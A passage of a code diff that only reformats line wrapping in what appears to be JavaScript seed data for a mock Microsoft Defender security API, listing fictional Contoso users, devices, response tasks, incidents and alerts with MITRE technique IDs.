@@ -56,7 +56,14 @@ const USER_ROWS = [
 const USERS = Object.fromEntries(
 	USER_ROWS.map(([accountName, displayName, department, rid]) => [
 		accountName,
-		{ accountName, displayName, department, upn: `${accountName}@${DOMAIN}`, objectId: guid(`user:${accountName}`), sid: `${DOMAIN_SID}-${rid}` },
+		{
+			accountName,
+			displayName,
+			department,
+			upn: `${accountName}@${DOMAIN}`,
+			objectId: guid(`user:${accountName}`),
+			sid: `${DOMAIN_SID}-${rid}`,
+		},
 	]),
 );
 
@@ -84,7 +91,10 @@ const DEVICE_ROWS = [
 
 /** @type {Record<string, StoryDevice>} by device name; the ID has the shape of a Defender for Endpoint device ID */
 const DEVICES = Object.fromEntries(
-	DEVICE_ROWS.map(([name, osPlatform, osBuild, ipAddress, user, group]) => [name, { name, deviceId: sha1(`device:${name}`), osPlatform, osBuild, ipAddress, user, group }]),
+	DEVICE_ROWS.map(([name, osPlatform, osBuild, ipAddress, user, group]) => [
+		name,
+		{ name, deviceId: sha1(`device:${name}`), osPlatform, osBuild, ipAddress, user, group },
+	]),
 );
 
 /**
@@ -104,7 +114,12 @@ const FILE_ROWS = [
 /** @typedef {{ name: string, folderPath: string, device: string, size: number, sha1: string, sha256: string }} StoryFile */
 
 /** @type {Record<string, StoryFile>} by file name */
-const FILES = Object.fromEntries(FILE_ROWS.map(([name, folderPath, device, size]) => [name, { name, folderPath, device, size, sha1: sha1(name), sha256: sha256(name) }]));
+const FILES = Object.fromEntries(
+	FILE_ROWS.map(([name, folderPath, device, size]) => [
+		name,
+		{ name, folderPath, device, size, sha1: sha1(name), sha256: sha256(name) },
+	]),
+);
 
 /**
  * [subject, sender, recipient account, received (minutes after base)]
@@ -121,7 +136,10 @@ const MAIL_ROWS = [
 
 /** @type {Record<string, StoryMail>} by subject */
 const MAILS = Object.fromEntries(
-	MAIL_ROWS.map(([subject, sender, recipient, receivedMinutes]) => [subject, { subject, sender, recipient, receivedMinutes, networkMessageId: guid(`mail:${subject}`) }]),
+	MAIL_ROWS.map(([subject, sender, recipient, receivedMinutes]) => [
+		subject,
+		{ subject, sender, recipient, receivedMinutes, networkMessageId: guid(`mail:${subject}`) },
+	]),
 );
 
 /** @param {string} upn */
@@ -199,8 +217,21 @@ const TEMPLATES = {
 	}),
 };
 
-const DEVICE_ACTIONS = ['isolateDevice', 'unIsolateDevice', 'restrictAppExecution', 'unRestrictAppExecution', 'runAntiVirusScan', 'collectInvestigationPackage'];
-const USER_ACTIONS = ['forceUserPasswordReset', 'disableUser', 'enableUser', 'markUserAsCompromised', 'requireSignIn'];
+const DEVICE_ACTIONS = [
+	'isolateDevice',
+	'unIsolateDevice',
+	'restrictAppExecution',
+	'unRestrictAppExecution',
+	'runAntiVirusScan',
+	'collectInvestigationPackage',
+];
+const USER_ACTIONS = [
+	'forceUserPasswordReset',
+	'disableUser',
+	'enableUser',
+	'markUserAsCompromised',
+	'requireSignIn',
+];
 const MAIL_ACTIONS = ['hardDeleteEmail', 'softDeleteEmail'];
 
 /**
@@ -215,14 +246,22 @@ function responseActionFor(actionType, target) {
 	if (!odataType) return undefined;
 	if (DEVICE_ACTIONS.includes(actionType)) {
 		const { deviceId } = DEVICES[target];
-		return actionType === 'isolateDevice' ? { '@odata.type': odataType, identifierValue: deviceId, isolationType: 'full' } : { '@odata.type': odataType, identifierValue: deviceId };
+		return actionType === 'isolateDevice'
+			? { '@odata.type': odataType, identifierValue: deviceId, isolationType: 'full' }
+			: { '@odata.type': odataType, identifierValue: deviceId };
 	}
 	if (actionType === 'stopAndQuarantineFile') {
 		const file = FILES[target];
-		return { '@odata.type': odataType, identifierValue: file.sha1, deviceId: DEVICES[file.device].deviceId };
+		return {
+			'@odata.type': odataType,
+			identifierValue: file.sha1,
+			deviceId: DEVICES[file.device].deviceId,
+		};
 	}
-	if (USER_ACTIONS.includes(actionType)) return { '@odata.type': odataType, identifierValue: userByUpn(target).upn };
-	if (MAIL_ACTIONS.includes(actionType)) return { '@odata.type': odataType, identifierValue: MAILS[target].networkMessageId };
+	if (USER_ACTIONS.includes(actionType))
+		return { '@odata.type': odataType, identifierValue: userByUpn(target).upn };
+	if (MAIL_ACTIONS.includes(actionType))
+		return { '@odata.type': odataType, identifierValue: MAILS[target].networkMessageId };
 	return { '@odata.type': odataType, identifierValue: target };
 }
 
@@ -235,56 +274,405 @@ function responseActionFor(actionType, target) {
 /** @type {TaskRow[]} oldest first */
 const TASK_ROWS = [
 	// Open, notStarted, one per executable action type: execute ends `completed`.
-	['task-isolate-open-001', 'isolateDevice', 'open', 'notStarted', 'completed', '1001', 'WS-FIN-042'],
-	['task-collect-open-001', 'collectInvestigationPackage', 'open', 'notStarted', 'completed', '1001', 'WS-FIN-042'],
-	['task-avscan-open-001', 'runAntiVirusScan', 'open', 'notStarted', 'completed', '1001', 'WS-FIN-042'],
-	['task-quarantine-open-001', 'stopAndQuarantineFile', 'open', 'notStarted', 'completed', '1002', 'invoice_0412.pdf.exe'],
-	['task-restrict-open-001', 'restrictAppExecution', 'open', 'notStarted', 'completed', '1002', 'SRV-SQL-07'],
-	['task-unrestrict-open-001', 'unRestrictAppExecution', 'open', 'notStarted', 'completed', '1003', 'SRV-SQL-07'],
-	['task-unisolate-open-001', 'unIsolateDevice', 'open', 'notStarted', 'completed', '1003', 'LT-HR-113'],
-	['task-ioc-open-001', 'submitIocRule', 'open', 'notStarted', 'completed', '1002', 'cdn-update-check.net', 'managed'],
+	[
+		'task-isolate-open-001',
+		'isolateDevice',
+		'open',
+		'notStarted',
+		'completed',
+		'1001',
+		'WS-FIN-042',
+	],
+	[
+		'task-collect-open-001',
+		'collectInvestigationPackage',
+		'open',
+		'notStarted',
+		'completed',
+		'1001',
+		'WS-FIN-042',
+	],
+	[
+		'task-avscan-open-001',
+		'runAntiVirusScan',
+		'open',
+		'notStarted',
+		'completed',
+		'1001',
+		'WS-FIN-042',
+	],
+	[
+		'task-quarantine-open-001',
+		'stopAndQuarantineFile',
+		'open',
+		'notStarted',
+		'completed',
+		'1002',
+		'invoice_0412.pdf.exe',
+	],
+	[
+		'task-restrict-open-001',
+		'restrictAppExecution',
+		'open',
+		'notStarted',
+		'completed',
+		'1002',
+		'SRV-SQL-07',
+	],
+	[
+		'task-unrestrict-open-001',
+		'unRestrictAppExecution',
+		'open',
+		'notStarted',
+		'completed',
+		'1003',
+		'SRV-SQL-07',
+	],
+	[
+		'task-unisolate-open-001',
+		'unIsolateDevice',
+		'open',
+		'notStarted',
+		'completed',
+		'1003',
+		'LT-HR-113',
+	],
+	[
+		'task-ioc-open-001',
+		'submitIocRule',
+		'open',
+		'notStarted',
+		'completed',
+		'1002',
+		'cdn-update-check.net',
+		'managed',
+	],
 	// Already started or closed.
-	['task-isolate-inprogress-001', 'isolateDevice', 'inProgress', 'inProgress', 'inProgress', '1001', 'WS-FIN-051'],
-	['task-isolate-completed-001', 'isolateDevice', 'completed', 'completed', 'completed', '1001', 'WS-FIN-039'],
-	['task-restrict-notrelevant-001', 'restrictAppExecution', 'notRelevant', 'notStarted', 'completed', '1003', 'SRV-SQL-08'],
-	['task-avscan-failed-001', 'runAntiVirusScan', 'failed', 'failed', 'failed', '1002', 'SRV-FILE-02', 'managed'],
-	['task-quarantine-partiallycompleted-001', 'stopAndQuarantineFile', 'inProgress', 'partiallyCompleted', 'partiallyCompleted', '1002', 'payroll_update.js'],
+	[
+		'task-isolate-inprogress-001',
+		'isolateDevice',
+		'inProgress',
+		'inProgress',
+		'inProgress',
+		'1001',
+		'WS-FIN-051',
+	],
+	[
+		'task-isolate-completed-001',
+		'isolateDevice',
+		'completed',
+		'completed',
+		'completed',
+		'1001',
+		'WS-FIN-039',
+	],
+	[
+		'task-restrict-notrelevant-001',
+		'restrictAppExecution',
+		'notRelevant',
+		'notStarted',
+		'completed',
+		'1003',
+		'SRV-SQL-08',
+	],
+	[
+		'task-avscan-failed-001',
+		'runAntiVirusScan',
+		'failed',
+		'failed',
+		'failed',
+		'1002',
+		'SRV-FILE-02',
+		'managed',
+	],
+	[
+		'task-quarantine-partiallycompleted-001',
+		'stopAndQuarantineFile',
+		'inProgress',
+		'partiallyCompleted',
+		'partiallyCompleted',
+		'1002',
+		'payroll_update.js',
+	],
 	// Open, notStarted, but execute does not end `completed`.
-	['task-avscan-fails-001', 'runAntiVirusScan', 'open', 'notStarted', 'failed', '1004', 'LT-EXEC-003'],
-	['task-quarantine-partial-001', 'stopAndQuarantineFile', 'open', 'notStarted', 'partiallyCompleted', '1005', 'svchost32.exe'],
-	['task-collect-stuck-001', 'collectInvestigationPackage', 'open', 'notStarted', 'inProgress', '1006', 'SRV-WEB-12'],
+	[
+		'task-avscan-fails-001',
+		'runAntiVirusScan',
+		'open',
+		'notStarted',
+		'failed',
+		'1004',
+		'LT-EXEC-003',
+	],
+	[
+		'task-quarantine-partial-001',
+		'stopAndQuarantineFile',
+		'open',
+		'notStarted',
+		'partiallyCompleted',
+		'1005',
+		'svchost32.exe',
+	],
+	[
+		'task-collect-stuck-001',
+		'collectInvestigationPackage',
+		'open',
+		'notStarted',
+		'inProgress',
+		'1006',
+		'SRV-WEB-12',
+	],
 	// The nine action types executeResponseAction refuses, open.
-	['task-text-open-001', 'text', 'open', 'notStarted', 'completed', '1001', 'Confirm with the device owner that WS-FIN-042 can be reimaged'],
-	['task-pwreset-open-001', 'forceUserPasswordReset', 'open', 'notStarted', 'completed', '1004', 'megan.bowen@contoso.com'],
-	['task-disableuser-open-001', 'disableUser', 'open', 'notStarted', 'completed', '1004', 'alex.wilber@contoso.com'],
-	['task-markcompromised-open-001', 'markUserAsCompromised', 'open', 'notStarted', 'completed', '1008', 'lidia.holloway@contoso.com', 'managed'],
-	['task-requiresignin-open-001', 'requireSignIn', 'open', 'notStarted', 'completed', '1008', 'lidia.holloway@contoso.com'],
-	['task-harddelete-open-001', 'hardDeleteEmail', 'open', 'notStarted', 'completed', '1008', 'Action required: payroll portal update'],
-	['task-softdelete-open-001', 'softDeleteEmail', 'open', 'notStarted', 'completed', '1008', 'Your mailbox is almost full'],
-	['task-enableuser-open-001', 'enableUser', 'open', 'notStarted', 'completed', '1007', 'diego.siciliani@contoso.com'],
-	['task-unknown-open-001', 'unknownFutureValue', 'open', 'notStarted', 'completed', '1007', 'Follow-up action added by a newer service version'],
+	[
+		'task-text-open-001',
+		'text',
+		'open',
+		'notStarted',
+		'completed',
+		'1001',
+		'Confirm with the device owner that WS-FIN-042 can be reimaged',
+	],
+	[
+		'task-pwreset-open-001',
+		'forceUserPasswordReset',
+		'open',
+		'notStarted',
+		'completed',
+		'1004',
+		'megan.bowen@contoso.com',
+	],
+	[
+		'task-disableuser-open-001',
+		'disableUser',
+		'open',
+		'notStarted',
+		'completed',
+		'1004',
+		'alex.wilber@contoso.com',
+	],
+	[
+		'task-markcompromised-open-001',
+		'markUserAsCompromised',
+		'open',
+		'notStarted',
+		'completed',
+		'1008',
+		'lidia.holloway@contoso.com',
+		'managed',
+	],
+	[
+		'task-requiresignin-open-001',
+		'requireSignIn',
+		'open',
+		'notStarted',
+		'completed',
+		'1008',
+		'lidia.holloway@contoso.com',
+	],
+	[
+		'task-harddelete-open-001',
+		'hardDeleteEmail',
+		'open',
+		'notStarted',
+		'completed',
+		'1008',
+		'Action required: payroll portal update',
+	],
+	[
+		'task-softdelete-open-001',
+		'softDeleteEmail',
+		'open',
+		'notStarted',
+		'completed',
+		'1008',
+		'Your mailbox is almost full',
+	],
+	[
+		'task-enableuser-open-001',
+		'enableUser',
+		'open',
+		'notStarted',
+		'completed',
+		'1007',
+		'diego.siciliani@contoso.com',
+	],
+	[
+		'task-unknown-open-001',
+		'unknownFutureValue',
+		'open',
+		'notStarted',
+		'completed',
+		'1007',
+		'Follow-up action added by a newer service version',
+	],
 	// More open executable tasks, so paging with $top=10 spans several pages.
-	['task-isolate-open-002', 'isolateDevice', 'open', 'notStarted', 'completed', '1004', 'LT-HR-113'],
-	['task-avscan-open-002', 'runAntiVirusScan', 'open', 'notStarted', 'completed', '1004', 'LT-HR-113'],
-	['task-isolate-open-003', 'isolateDevice', 'open', 'notStarted', 'completed', '1005', 'WS-DEV-201', 'managed'],
-	['task-avscan-open-003', 'runAntiVirusScan', 'open', 'notStarted', 'completed', '1005', 'WS-DEV-201'],
-	['task-quarantine-open-002', 'stopAndQuarantineFile', 'open', 'notStarted', 'completed', '1005', 'devtools-helper.dll'],
+	[
+		'task-isolate-open-002',
+		'isolateDevice',
+		'open',
+		'notStarted',
+		'completed',
+		'1004',
+		'LT-HR-113',
+	],
+	[
+		'task-avscan-open-002',
+		'runAntiVirusScan',
+		'open',
+		'notStarted',
+		'completed',
+		'1004',
+		'LT-HR-113',
+	],
+	[
+		'task-isolate-open-003',
+		'isolateDevice',
+		'open',
+		'notStarted',
+		'completed',
+		'1005',
+		'WS-DEV-201',
+		'managed',
+	],
+	[
+		'task-avscan-open-003',
+		'runAntiVirusScan',
+		'open',
+		'notStarted',
+		'completed',
+		'1005',
+		'WS-DEV-201',
+	],
+	[
+		'task-quarantine-open-002',
+		'stopAndQuarantineFile',
+		'open',
+		'notStarted',
+		'completed',
+		'1005',
+		'devtools-helper.dll',
+	],
 	['task-ioc-open-002', 'submitIocRule', 'open', 'notStarted', 'completed', '1006', '203.0.113.77'],
-	['task-collect-open-002', 'collectInvestigationPackage', 'open', 'notStarted', 'completed', '1006', 'SRV-WEB-12'],
-	['task-restrict-open-002', 'restrictAppExecution', 'open', 'notStarted', 'completed', '1006', 'SRV-WEB-12'],
-	['task-unisolate-open-002', 'unIsolateDevice', 'open', 'notStarted', 'completed', '1007', 'WS-OPS-088'],
-	['task-unrestrict-open-002', 'unRestrictAppExecution', 'open', 'notStarted', 'completed', '1007', 'WS-OPS-088'],
+	[
+		'task-collect-open-002',
+		'collectInvestigationPackage',
+		'open',
+		'notStarted',
+		'completed',
+		'1006',
+		'SRV-WEB-12',
+	],
+	[
+		'task-restrict-open-002',
+		'restrictAppExecution',
+		'open',
+		'notStarted',
+		'completed',
+		'1006',
+		'SRV-WEB-12',
+	],
+	[
+		'task-unisolate-open-002',
+		'unIsolateDevice',
+		'open',
+		'notStarted',
+		'completed',
+		'1007',
+		'WS-OPS-088',
+	],
+	[
+		'task-unrestrict-open-002',
+		'unRestrictAppExecution',
+		'open',
+		'notStarted',
+		'completed',
+		'1007',
+		'WS-OPS-088',
+	],
 	// Non-executable tasks in other states.
-	['task-text-open-002', 'text', 'open', 'notStarted', 'completed', '1006', 'Check the web server logs for further exploitation attempts'],
-	['task-text-completed-001', 'text', 'completed', 'completed', 'completed', '1003', 'Confirm the unwanted software was removed from SRV-SQL-07'],
-	['task-pwreset-completed-001', 'forceUserPasswordReset', 'completed', 'completed', 'completed', '1004', 'adele.vance@contoso.com'],
-	['task-disableuser-notrelevant-001', 'disableUser', 'notRelevant', 'notStarted', 'completed', '1007', 'svc-backup@contoso.com'],
-	['task-softdelete-inprogress-001', 'softDeleteEmail', 'inProgress', 'inProgress', 'inProgress', '1008', 'Shared document: Q4 bonus plan', 'managed'],
+	[
+		'task-text-open-002',
+		'text',
+		'open',
+		'notStarted',
+		'completed',
+		'1006',
+		'Check the web server logs for further exploitation attempts',
+	],
+	[
+		'task-text-completed-001',
+		'text',
+		'completed',
+		'completed',
+		'completed',
+		'1003',
+		'Confirm the unwanted software was removed from SRV-SQL-07',
+	],
+	[
+		'task-pwreset-completed-001',
+		'forceUserPasswordReset',
+		'completed',
+		'completed',
+		'completed',
+		'1004',
+		'adele.vance@contoso.com',
+	],
+	[
+		'task-disableuser-notrelevant-001',
+		'disableUser',
+		'notRelevant',
+		'notStarted',
+		'completed',
+		'1007',
+		'svc-backup@contoso.com',
+	],
+	[
+		'task-softdelete-inprogress-001',
+		'softDeleteEmail',
+		'inProgress',
+		'inProgress',
+		'inProgress',
+		'1008',
+		'Shared document: Q4 bonus plan',
+		'managed',
+	],
 	// Newest.
-	['task-unisolate-completed-001', 'unIsolateDevice', 'completed', 'completed', 'completed', '1008', 'LT-SALES-019'],
-	['task-avscan-inprogress-001', 'runAntiVirusScan', 'inProgress', 'inProgress', 'inProgress', '1008', 'LT-SALES-019'],
-	['task-isolate-open-004', 'isolateDevice', 'open', 'notStarted', 'completed', '1008', 'LT-SALES-019'],
-	['task-avscan-open-004', 'runAntiVirusScan', 'open', 'notStarted', 'completed', '1008', 'LT-SALES-022'],
+	[
+		'task-unisolate-completed-001',
+		'unIsolateDevice',
+		'completed',
+		'completed',
+		'completed',
+		'1008',
+		'LT-SALES-019',
+	],
+	[
+		'task-avscan-inprogress-001',
+		'runAntiVirusScan',
+		'inProgress',
+		'inProgress',
+		'inProgress',
+		'1008',
+		'LT-SALES-019',
+	],
+	[
+		'task-isolate-open-004',
+		'isolateDevice',
+		'open',
+		'notStarted',
+		'completed',
+		'1008',
+		'LT-SALES-019',
+	],
+	[
+		'task-avscan-open-004',
+		'runAntiVirusScan',
+		'open',
+		'notStarted',
+		'completed',
+		'1008',
+		'LT-SALES-022',
+	],
 ];
 
 const TASK_SPACING_MINUTES = 17;
@@ -308,7 +696,8 @@ function buildTask(row, index) {
 		actionType,
 		actionStatus,
 		status,
-		source: source === 'managed' ? 'defenderExpertsManagedResponse' : 'defenderExpertsGuidedResponse',
+		source:
+			source === 'managed' ? 'defenderExpertsManagedResponse' : 'defenderExpertsGuidedResponse',
 		createdDateTime: at(createdMinutes),
 		lastModifiedDateTime: at(createdMinutes + (touched ? 11 : 0)),
 		createdByDisplayName: EXPERTS,
@@ -324,10 +713,14 @@ function buildTask(row, index) {
 const SEED_TASKS = deepFreeze(TASK_ROWS.map(buildTask));
 
 /** @type {Readonly<Record<string, string>>} Where each seeded task's actionStatus ends after a successful execute. */
-const SEED_TASK_OUTCOMES = Object.freeze(Object.fromEntries(TASK_ROWS.map((row) => [row[0], row[4]])));
+const SEED_TASK_OUTCOMES = Object.freeze(
+	Object.fromEntries(TASK_ROWS.map((row) => [row[0], row[4]])),
+);
 
 /** @type {Readonly<Record<string, string>>} The incident each seeded task belongs to (Graph's `incident` relationship). */
-const SEED_TASK_INCIDENTS = Object.freeze(Object.fromEntries(TASK_ROWS.map((row) => [row[0], row[5]])));
+const SEED_TASK_INCIDENTS = Object.freeze(
+	Object.fromEntries(TASK_ROWS.map((row) => [row[0], row[5]])),
+);
 
 /** Task IDs tests and the demo rely on, by role. */
 const SEEDED_TASK_IDS = deepFreeze({
@@ -369,21 +762,119 @@ const SEEDED_TASK_IDS = deepFreeze({
 
 /** @type {IncidentRow[]} */
 const INCIDENT_ROWS = [
-	['1001', 'high', 'active', 'Multi-stage incident involving Execution & Ransomware on multiple endpoints', 0, 600, 'nestor.wilke@contoso.com', 'unknown', 'unknown'],
-	['1002', 'medium', 'active', 'Suspicious file dropped and launched on multiple endpoints', 90, 240, null, 'unknown', 'unknown'],
-	['1003', 'low', 'resolved', 'Unwanted software detected on one endpoint', 180, 420, 'nestor.wilke@contoso.com', 'truePositive', 'unwantedSoftware'],
-	['1004', 'high', 'awaitingAction', 'Credential theft campaign targeting Finance', 270, 900, null, 'unknown', 'unknown'],
-	['1005', 'medium', 'inProgress', 'Malware detected on a developer workstation', 360, 480, 'isaiah.langer@contoso.com', 'unknown', 'unknown'],
-	['1006', 'informational', 'resolved', 'Suspicious PowerShell activity on a web server', 450, 510, 'isaiah.langer@contoso.com', 'informationalExpectedActivity', 'securityTesting'],
-	['1007', 'low', 'active', 'Anomalous sign-in followed by device activity', 540, 700, null, 'unknown', 'unknown'],
-	['1008', 'high', 'active', 'Business email compromise with mailbox rule manipulation', 630, 1020, null, 'unknown', 'unknown'],
+	[
+		'1001',
+		'high',
+		'active',
+		'Multi-stage incident involving Execution & Ransomware on multiple endpoints',
+		0,
+		600,
+		'nestor.wilke@contoso.com',
+		'unknown',
+		'unknown',
+	],
+	[
+		'1002',
+		'medium',
+		'active',
+		'Suspicious file dropped and launched on multiple endpoints',
+		90,
+		240,
+		null,
+		'unknown',
+		'unknown',
+	],
+	[
+		'1003',
+		'low',
+		'resolved',
+		'Unwanted software detected on one endpoint',
+		180,
+		420,
+		'nestor.wilke@contoso.com',
+		'truePositive',
+		'unwantedSoftware',
+	],
+	[
+		'1004',
+		'high',
+		'awaitingAction',
+		'Credential theft campaign targeting Finance',
+		270,
+		900,
+		null,
+		'unknown',
+		'unknown',
+	],
+	[
+		'1005',
+		'medium',
+		'inProgress',
+		'Malware detected on a developer workstation',
+		360,
+		480,
+		'isaiah.langer@contoso.com',
+		'unknown',
+		'unknown',
+	],
+	[
+		'1006',
+		'informational',
+		'resolved',
+		'Suspicious PowerShell activity on a web server',
+		450,
+		510,
+		'isaiah.langer@contoso.com',
+		'informationalExpectedActivity',
+		'securityTesting',
+	],
+	[
+		'1007',
+		'low',
+		'active',
+		'Anomalous sign-in followed by device activity',
+		540,
+		700,
+		null,
+		'unknown',
+		'unknown',
+	],
+	[
+		'1008',
+		'high',
+		'active',
+		'Business email compromise with mailbox rule manipulation',
+		630,
+		1020,
+		null,
+		'unknown',
+		'unknown',
+	],
 ];
 
 /** What analysts and Defender Experts wrote on incidents: [author, minutes after base, text] per incident. */
 const INCIDENT_COMMENTS = /** @type {Record<string, [string, number, string][]>} */ ({
-	1001: [['nestor.wilke@contoso.com', 40, 'Ransomware confirmed on WS-FIN-042; svcupdate.exe spread over WMI to two more Finance workstations.']],
-	1003: [['nestor.wilke@contoso.com', 415, 'PresenokerSetup.exe removed from SRV-SQL-07. App execution restriction can be lifted.']],
-	1004: [['Microsoft Defender Experts', 880, 'Credential dumping on LT-EXEC-003 and a phishing click by megan.bowen. Guided response tasks are waiting for your action.']],
+	1001: [
+		[
+			'nestor.wilke@contoso.com',
+			40,
+			'Ransomware confirmed on WS-FIN-042; svcupdate.exe spread over WMI to two more Finance workstations.',
+		],
+	],
+	1003: [
+		[
+			'nestor.wilke@contoso.com',
+			415,
+			'PresenokerSetup.exe removed from SRV-SQL-07. App execution restriction can be lifted.',
+		],
+	],
+	1004: [
+		[
+			'Microsoft Defender Experts',
+			880,
+			'Credential dumping on LT-EXEC-003 and a phishing click by megan.bowen. Guided response tasks are waiting for your action.',
+		],
+	],
 });
 
 /** Incident descriptions Defender Experts wrote; the others have none. */
@@ -394,7 +885,17 @@ const INCIDENT_DESCRIPTIONS = /** @type {Record<string, string>} */ ({
 
 /** @param {IncidentRow} row */
 function buildIncident(row) {
-	const [id, severity, status, displayName, created, updated, assignedTo, classification, determination] = row;
+	const [
+		id,
+		severity,
+		status,
+		displayName,
+		created,
+		updated,
+		assignedTo,
+		classification,
+		determination,
+	] = row;
 	return {
 		id,
 		tenantId: SEED_TENANT_GUID,
@@ -415,7 +916,11 @@ function buildIncident(row) {
 		lastModifiedBy: assignedTo ?? 'Microsoft 365 Defender',
 		resolvingComment: status === 'resolved' ? 'Resolved after remediation was confirmed.' : null,
 		summary: null,
-		comments: (INCIDENT_COMMENTS[id] ?? []).map(([createdByDisplayName, minutes, comment]) => ({ comment, createdByDisplayName, createdDateTime: at(minutes) })),
+		comments: (INCIDENT_COMMENTS[id] ?? []).map(([createdByDisplayName, minutes, comment]) => ({
+			comment,
+			createdByDisplayName,
+			createdDateTime: at(minutes),
+		})),
 	};
 }
 
@@ -429,32 +934,233 @@ const SEED_INCIDENTS = deepFreeze(INCIDENT_ROWS.map(buildIncident));
 
 /** @type {AlertRow[]} */
 const ALERT_ROWS = [
-	['alert-1001-01', '1001', 'high', 'inProgress', 'microsoftDefenderForEndpoint', 'microsoftDefenderForEndpoint', 'Execution', "Suspicious 'PowerShell' encoded command", 0, 120, ['T1059.001', 'T1027']],
-	['alert-1001-02', '1001', 'high', 'new', 'microsoftDefenderForEndpoint', 'antivirus', 'Ransomware', 'Ransomware behavior detected in the file system', 12, 600, ['T1486', 'T1490']],
-	['alert-1002-01', '1002', 'medium', 'new', 'microsoftDefenderForEndpoint', 'antivirus', 'Malware', "'Trojan:Win32/Wacatac' malware was detected", 90, 240, ['T1204.002']],
-	['alert-1002-02', '1002', 'medium', 'new', 'microsoftDefenderForEndpoint', 'customTi', 'CommandAndControl', 'Connection to a custom network indicator', 101, 200, ['T1071.001']],
-	['alert-1003-01', '1003', 'low', 'resolved', 'microsoftDefenderForEndpoint', 'antivirus', 'UnwantedSoftware', "'Presenoker' unwanted software was detected", 180, 420, []],
-	['alert-1004-01', '1004', 'high', 'new', 'microsoftDefenderForOffice365', 'microsoftDefenderForOffice365', 'InitialAccess', 'Email messages containing malicious URL removed after delivery', 270, 300, ['T1566.002']],
-	['alert-1004-02', '1004', 'medium', 'new', 'microsoftDefenderForIdentity', 'microsoftDefenderForIdentity', 'CredentialAccess', 'Suspected credential theft activity', 281, 900, ['T1110']],
-	['alert-1004-03', '1004', 'high', 'inProgress', 'microsoftDefenderForEndpoint', 'microsoftDefenderForEndpoint', 'CredentialAccess', 'Possible credential dumping from LSASS', 295, 880, ['T1003.001']],
-	['alert-1005-01', '1005', 'medium', 'inProgress', 'microsoftDefenderForEndpoint', 'antivirus', 'Malware', "'Lumma' malware was prevented", 360, 480, ['T1555.003']],
-	['alert-1005-02', '1005', 'low', 'new', 'microsoftDefenderForEndpoint', 'microsoftDefenderForEndpoint', 'DefenseEvasion', 'Suspicious process injection observed', 372, 400, ['T1055', 'T1218.011']],
-	['alert-1006-01', '1006', 'informational', 'resolved', 'microsoftDefenderForEndpoint', 'microsoftDefenderForEndpoint', 'Execution', 'Suspicious PowerShell command line', 450, 510, ['T1059.001', 'T1105']],
-	['alert-1007-01', '1007', 'low', 'new', 'microsoftDefenderForCloudApps', 'cloudAppSecurity', 'InitialAccess', 'Activity from an anonymous proxy', 540, 560, ['T1090.003']],
-	['alert-1007-02', '1007', 'medium', 'new', 'microsoftDefenderForIdentity', 'microsoftDefenderForIdentity', 'Discovery', 'Account enumeration reconnaissance', 556, 700, ['T1087.002']],
-	['alert-1008-01', '1008', 'high', 'new', 'microsoftDefenderForOffice365', 'microsoftDefenderForOffice365', 'InitialAccess', 'A potentially malicious URL click was detected', 630, 640, ['T1566.002']],
-	['alert-1008-02', '1008', 'high', 'new', 'microsoftDefenderForCloudApps', 'cloudAppSecurity', 'Persistence', 'Suspicious inbox manipulation rule', 644, 1020, ['T1564.008']],
-	['alert-1008-03', '1008', 'medium', 'inProgress', 'microsoftDefenderForOffice365', 'microsoftDefenderForOffice365', 'Exfiltration', 'Suspicious email forwarding activity', 651, 990, ['T1114.003']],
+	[
+		'alert-1001-01',
+		'1001',
+		'high',
+		'inProgress',
+		'microsoftDefenderForEndpoint',
+		'microsoftDefenderForEndpoint',
+		'Execution',
+		"Suspicious 'PowerShell' encoded command",
+		0,
+		120,
+		['T1059.001', 'T1027'],
+	],
+	[
+		'alert-1001-02',
+		'1001',
+		'high',
+		'new',
+		'microsoftDefenderForEndpoint',
+		'antivirus',
+		'Ransomware',
+		'Ransomware behavior detected in the file system',
+		12,
+		600,
+		['T1486', 'T1490'],
+	],
+	[
+		'alert-1002-01',
+		'1002',
+		'medium',
+		'new',
+		'microsoftDefenderForEndpoint',
+		'antivirus',
+		'Malware',
+		"'Trojan:Win32/Wacatac' malware was detected",
+		90,
+		240,
+		['T1204.002'],
+	],
+	[
+		'alert-1002-02',
+		'1002',
+		'medium',
+		'new',
+		'microsoftDefenderForEndpoint',
+		'customTi',
+		'CommandAndControl',
+		'Connection to a custom network indicator',
+		101,
+		200,
+		['T1071.001'],
+	],
+	[
+		'alert-1003-01',
+		'1003',
+		'low',
+		'resolved',
+		'microsoftDefenderForEndpoint',
+		'antivirus',
+		'UnwantedSoftware',
+		"'Presenoker' unwanted software was detected",
+		180,
+		420,
+		[],
+	],
+	[
+		'alert-1004-01',
+		'1004',
+		'high',
+		'new',
+		'microsoftDefenderForOffice365',
+		'microsoftDefenderForOffice365',
+		'InitialAccess',
+		'Email messages containing malicious URL removed after delivery',
+		270,
+		300,
+		['T1566.002'],
+	],
+	[
+		'alert-1004-02',
+		'1004',
+		'medium',
+		'new',
+		'microsoftDefenderForIdentity',
+		'microsoftDefenderForIdentity',
+		'CredentialAccess',
+		'Suspected credential theft activity',
+		281,
+		900,
+		['T1110'],
+	],
+	[
+		'alert-1004-03',
+		'1004',
+		'high',
+		'inProgress',
+		'microsoftDefenderForEndpoint',
+		'microsoftDefenderForEndpoint',
+		'CredentialAccess',
+		'Possible credential dumping from LSASS',
+		295,
+		880,
+		['T1003.001'],
+	],
+	[
+		'alert-1005-01',
+		'1005',
+		'medium',
+		'inProgress',
+		'microsoftDefenderForEndpoint',
+		'antivirus',
+		'Malware',
+		"'Lumma' malware was prevented",
+		360,
+		480,
+		['T1555.003'],
+	],
+	[
+		'alert-1005-02',
+		'1005',
+		'low',
+		'new',
+		'microsoftDefenderForEndpoint',
+		'microsoftDefenderForEndpoint',
+		'DefenseEvasion',
+		'Suspicious process injection observed',
+		372,
+		400,
+		['T1055', 'T1218.011'],
+	],
+	[
+		'alert-1006-01',
+		'1006',
+		'informational',
+		'resolved',
+		'microsoftDefenderForEndpoint',
+		'microsoftDefenderForEndpoint',
+		'Execution',
+		'Suspicious PowerShell command line',
+		450,
+		510,
+		['T1059.001', 'T1105'],
+	],
+	[
+		'alert-1007-01',
+		'1007',
+		'low',
+		'new',
+		'microsoftDefenderForCloudApps',
+		'cloudAppSecurity',
+		'InitialAccess',
+		'Activity from an anonymous proxy',
+		540,
+		560,
+		['T1090.003'],
+	],
+	[
+		'alert-1007-02',
+		'1007',
+		'medium',
+		'new',
+		'microsoftDefenderForIdentity',
+		'microsoftDefenderForIdentity',
+		'Discovery',
+		'Account enumeration reconnaissance',
+		556,
+		700,
+		['T1087.002'],
+	],
+	[
+		'alert-1008-01',
+		'1008',
+		'high',
+		'new',
